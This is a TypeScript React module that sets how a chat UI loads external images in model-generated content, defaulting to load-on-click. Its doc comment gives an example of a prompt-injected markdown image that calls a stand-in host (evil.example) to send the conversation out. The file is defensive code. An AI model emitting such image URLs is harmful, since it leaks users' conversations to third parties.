import { createContext, useContext } from "react";

/**
 * Which images from model-generated content (markdown in text and reasoning, tool output,
 * code-interpreter images) are fetched from their host. Loading an image is a request the
 * model chose: a prompt-injected `![](https://evil.example/pixel?q=<the conversation>)`
 * would send the conversation to that host the moment it streams in. So by default an
 * external image is shown as a link naming its host and loads only when the reader clicks.
 *
 * - `"click"` (default): a link "Image from example.com"; a click loads it in place.
 * - `"allow"`: external images load as they arrive.
 * - `"block"`: external images are neither loaded nor linked; a placeholder says so.
 * - a function: called with the (sanitised) URL; `true` loads it, `false` shows the link.
 *
 * Only http(s) URLs are external. Images that need no request (`data:` URLs, images the
 * model generated as base64) and the user's own attachments always show.
 */
export type ImagePolicy = "click" | "allow" | "block" | ((url: string) => boolean);

/** What to do with one external image under an {@link ImagePolicy}. */
export type ImageLoad = "load" | "click" | "block";

/** The policy used where none is given: load on click. */
export const defaultImagePolicy: ImagePolicy = "click";

/** True for an image URL whose loading sends a request to a host (http and https). */
export function isExternalImageUrl(src: string): boolean {
  return /^https?:/i.test(src);
}

/** Decides how an image with the (already sanitised) `src` is shown under `policy`. */
export function imageLoad(src: string, policy: ImagePolicy = defaultImagePolicy): ImageLoad {
  if (!isExternalImageUrl(src)) return "load";
  if (typeof policy === "function") return policy(src) ? "load" : "click";
  switch (policy) {
    case "allow":
      return "load";
    case "block":
      return "block";
    default:
      return "click";
  }
}

/** The host an image would be fetched from, as shown to the reader (`example.com`). */
export function imageHost(src: string): string {
  try {
    return new URL(src).host;
  } catch {
    return src;
  }
}

const ImagePolicyContext = createContext<ImagePolicy>(defaultImagePolicy);

/**
 * Provides the image policy to every part below it (`<Message>` does, from its `images`
 * prop), so reasoning summaries, tool cards and markdown follow the same policy.
 */
export const ImagePolicyProvider = ImagePolicyContext.Provider;

/** The image policy of the enclosing `<Message>` (or `"click"`). */
export function useImagePolicy(): ImagePolicy {
  return useContext(ImagePolicyContext);
}
